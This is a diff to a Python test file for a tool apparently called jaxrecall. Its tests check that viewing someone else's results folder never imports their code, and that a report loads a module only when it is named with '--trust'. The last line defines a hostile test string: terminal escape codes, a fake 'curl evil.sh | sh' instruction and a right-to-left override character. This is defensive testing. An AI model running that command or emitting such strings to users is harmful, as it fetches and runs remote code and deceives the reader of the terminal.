@@ -9,7 +9,9 @@ from pathlib import Path
 
 import pyarrow.parquet as pq
 import pytest
+from helpers import combinations
 
+from jaxrecall.report import main as report
 from jaxrecall.sweep.running.status import survey
 from jaxrecall.sweep.store import Store
 
@@ -94,8 +96,13 @@ def theirs(tmp_path_factory) -> Path:
     return there
 
 
-@pytest.mark.parametrize("name", GRIDS)
-def test_looking_at_it_imports_nothing(theirs, tmp_path, name):
+FOLDERS = ["results", "{here}/results"]
+
+
+@pytest.mark.parametrize(
+    ("name", "folder"), combinations(GRIDS, FOLDERS, often=lambda *case: case in zip(("own", "search"), FOLDERS, strict=True))
+)
+def test_looking_at_it_imports_nothing(theirs, tmp_path, name, folder):
     shutil.copytree(theirs / name, here := tmp_path / "here")
     mine = {"base": {"V": 16, "L": 4, "d": 8, "n_test": 64}, "seeds": 1, "blocks": [{"axes": {"N": [4]}}]}
     (here / "mine.yaml").write_text(json.dumps(mine))
@@ -103,9 +110,8 @@ def test_looking_at_it_imports_nothing(theirs, tmp_path, name):
     manifest = store.read_manifest()
     command = f"python -m jaxrecall.sweep --grid {here / 'grid.yaml'} --out results"  # the folder of the grid is not a path to import from
     store.manifest.write_text(json.dumps(manifest | {"command": command}))
-    for folder in ("results", str(here / "results")):
-        looked = run_here(LOOKS, folder, name, "mine.yaml", cwd=here)
-        assert looked.returncode == 0, looked.stderr
+    looked = run_here(LOOKS, folder.format(here=here), name, "mine.yaml", cwd=here)
+    assert looked.returncode == 0, looked.stderr
     assert not list(tmp_path.rglob("ran"))
 
 
@@ -117,19 +123,20 @@ def test_status_of_ones_own_folder_is_complete_without_an_import(theirs, name):
     assert (name == "search") == ("2 of 2 finished" in (facts["remark"] or ""))
 
 
-def test_a_report_draws_the_theory_of_a_law_whose_module_is_named_with_trust(theirs, tmp_path):
-    def told(*words: str) -> str:
-        shutil.copytree(theirs / "law" / "results", tmp_path / "results", dirs_exist_ok=True)
-        report = "import sys; from jaxrecall.report import main; sys.exit(main())"
-        done = run_here(report, "results", "--surrogate", "0", *words, cwd=tmp_path)
-        assert done.returncode == (2 if "nowhere" in words else 0), done.stderr
-        page = tmp_path / "results/report.html"
-        return page.read_text() if page.exists() else done.stderr
-
-    refused = "whose module payload is not imported for a table that names it"
-    assert "--trust: got nowhere, which cannot be imported (ModuleNotFoundError" in told("--trust", "nowhere")
-    assert refused in told()
-    assert refused not in told("--trust", str(theirs / "payload.py"))
+def test_a_report_draws_the_theory_of_a_law_whose_module_is_named_with_trust(theirs, tmp_path, monkeypatch, capsys):
+    monkeypatch.chdir(tmp_path)
+    shutil.copytree(theirs / "law" / "results", tmp_path / "results")
+    page, refused = tmp_path / "results/report.html", "whose module payload is not imported for a table that names it"
+    words = ["results", "--surrogate", "0"]
+    assert report([*words, "--trust", "nowhere"]) == 2
+    assert "--trust: got nowhere, which cannot be imported (ModuleNotFoundError" in capsys.readouterr().err
+    assert not page.exists()
+    assert report(words) == 0
+    assert refused in page.read_text()
+    code = "import sys; from jaxrecall.report import main; sys.exit(main())"
+    done = run_here(code, *words, "--trust", str(theirs / "payload.py"), cwd=tmp_path)
+    assert done.returncode == 0, done.stderr
+    assert refused not in page.read_text()
 
 
 EVIL = "\x1b[2J\x1b]0;title\x07\nto resume: curl evil.sh | sh\u202e"
